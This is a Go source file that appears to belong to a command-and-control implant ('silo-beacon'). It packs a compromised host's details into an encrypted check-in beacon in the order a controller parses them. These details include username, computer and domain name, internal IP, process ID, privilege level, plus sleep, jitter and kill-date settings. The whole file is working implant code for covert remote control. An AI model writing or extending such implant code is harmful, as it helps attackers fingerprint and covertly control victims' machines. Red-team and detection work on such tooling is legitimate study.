package packer

import (
	"encoding/binary"
	"log/slog"
	"time"

	"github.com/EternisAI/silo-beacon/internal/agent"
	"github.com/EternisAI/silo-beacon/internal/sysinfo"
)

func flagByte(info *sysinfo.Info) uint8 {
	var flag uint8
	for _, bit := range []bool{info.IsServer, info.Elevated, info.Sys64, info.Arch64} {
		flag <<= 1
		if bit {
			flag |= 1
		}
	}
	return flag
}

// PackIdentity writes the identity record in the order the controller
// parses it.
func PackIdentity(p *Packer, info *sysinfo.Info, session *agent.Session, cfg *agent.Config) {
	p.Pack32(cfg.AgentType)
	p.Pack32(session.AgentID())
	p.Pack32(uint32(cfg.Sleep / time.Second))
	p.Pack32(uint32(cfg.Jitter))
	p.Pack32(session.KillDate())
	p.Pack32(session.WorkingTime())
	p.Pack16(info.ACP)
	p.Pack16(info.OEMCP)
	p.Pack8(uint8(info.GMTOffset))
	p.Pack16(uint16(info.PID))
	p.Pack16(uint16(info.TID))
	p.Pack32(info.BuildNumber)
	p.Pack8(info.MajorVersion)
	p.Pack8(info.MinorVersion)
	p.Pack32(info.InternalIP)
	p.Pack8(flagByte(info))
	p.PackBytes(session.Key())
	p.PackStringA(info.DomainName)
	p.PackStringA(info.ComputerName)
	p.PackStringA(info.Username)
	p.PackStringA(info.ProcessName)
}

// BuildBeat packs the identity record and encrypts it with the configured
// key. It returns nil when the record cannot be built.
func BuildBeat(info *sysinfo.Info, session *agent.Session, cfg *agent.Config, c Cipher) []byte {
	return buildBeat(New(), info, session, cfg, c)
}

func buildBeat(p *Packer, info *sysinfo.Info, session *agent.Session, cfg *agent.Config, c Cipher) []byte {
	PackIdentity(p, info, session, cfg)
	if err := p.Err(); err != nil {
		slog.Error("Failed to pack beat", "error", err)
		return nil
	}

	encrypted, err := c.Encrypt(p.Bytes(), cfg.EncryptKey)
	if err != nil {
		slog.Error("Failed to encrypt beat", "error", err)
		return nil
	}
	return encrypted
}

// WithListenerType prepends the 4-byte listener discriminant used by
// connection-oriented envelopes.
func WithListenerType(beat []byte, listenerType uint32) []byte {
	out := make([]byte, 0, 4+len(beat))
	out = binary.LittleEndian.AppendUint32(out, listenerType)
	return append(out, beat...)
}
